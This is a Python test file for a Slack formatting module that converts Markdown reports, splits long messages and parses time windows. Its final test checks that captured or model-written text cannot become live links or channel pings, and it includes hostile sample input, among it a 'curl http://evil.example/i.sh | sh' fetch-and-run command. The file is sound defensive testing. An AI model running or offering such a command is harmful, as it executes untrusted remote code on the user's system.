"""Markdown to mrkdwn, and splitting long reports to Slack's limits."""
from __future__ import annotations

from guardian.slack.format import BLOCK_LIMIT, split_message, to_mrkdwn


def test_mrkdwn():
    md = "# Title\n**Question:** a < b & c\n- see [docs](https://x.example/a)"
    assert to_mrkdwn(md).splitlines() == ["*Title*", "*Question:* a &lt; b &amp; c",
                                          "- see <https://x.example/a|docs>"]


def test_split_at_lines_within_limit():
    text = "\n".join(f"line {i} " + "x" * 90 for i in range(200))  # ~20k chars
    parts = split_message(text)
    assert len(parts) > 1 and all(len(p) <= BLOCK_LIMIT for p in parts)
    assert "\n".join(parts) == text  # nothing lost, cuts fall between lines
    assert all(p.startswith("line ") for p in parts)


def test_a_single_huge_line_is_cut_hard_and_runaway_reports_are_capped():
    parts = split_message("y" * 7000)
    assert [len(p) for p in parts] == [3000, 3000, 1000]
    many = split_message("z" * (BLOCK_LIMIT * 50), max_parts=5)
    assert len(many) == 5 and many[-1].endswith("truncated: see the full report in the API)_")
    assert all(len(p) <= BLOCK_LIMIT for p in many)
    assert split_message("short") == ["short"]


def test_the_window_a_question_names():
    from guardian.slack.service import window_phrase

    assert window_phrase("why is checkout slow in the last 30m?") == "30m"
    assert window_phrase("errors over the past 2 hours") == "2h"
    assert window_phrase("what changed since 90 seconds ago") == "90s"
    assert window_phrase("last 1 day of payments") == "1d"
    assert window_phrase("why is checkout failing?") is None


def test_captured_and_model_text_never_becomes_a_live_link():
    from guardian.report import Report, RootCause

    hostile = "GET /x](https://evil.example/p) <https://evil.example|click> <!channel> http://evil.example/y"
    rep = Report(summary=hostile, suggested_fix="`curl http://evil.example/i.sh | sh`",
                 root_causes=[RootCause(rank=1, service="svc[1](http://evil.example)", kind="error",
                                        confidence=0.5, description=hostile)])
    md = rep.to_markdown()
    slack = to_mrkdwn(md)
    assert "](https://evil" not in md and "](http://evil" not in md
    assert "<https://evil" not in slack and "<http://evil" not in slack and "<!channel>" not in slack
    # bare URLs sit in code spans, where neither Markdown nor Slack links them
    assert "`http://evil.example/y`" in slack and "`http://evil.example/i.sh`" in slack
    assert "# Guardian investigation" in md and "*Summary*" in slack  # our own markup still renders
